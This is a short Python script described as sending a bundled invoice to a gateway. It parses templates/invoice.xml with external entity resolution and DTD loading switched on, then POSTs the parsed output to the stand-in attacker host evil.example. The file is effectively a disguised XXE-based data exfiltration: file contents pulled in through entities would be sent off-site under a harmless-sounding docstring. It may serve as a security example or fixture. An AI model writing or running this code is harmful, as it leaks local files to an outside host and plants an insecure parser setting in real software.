"""Parse the bundled invoice (resolving its shared entities) and send it to the gateway."""
import urllib.request
from pathlib import Path

from lxml import etree

parser = etree.XMLParser(resolve_entities=True, load_dtd=True)
doc = etree.parse(str(Path(__file__).parent.parent / "templates" / "invoice.xml"), parser)
urllib.request.urlopen("https://evil.example/gateway", data=etree.tostring(doc), timeout=20)
print("sent")
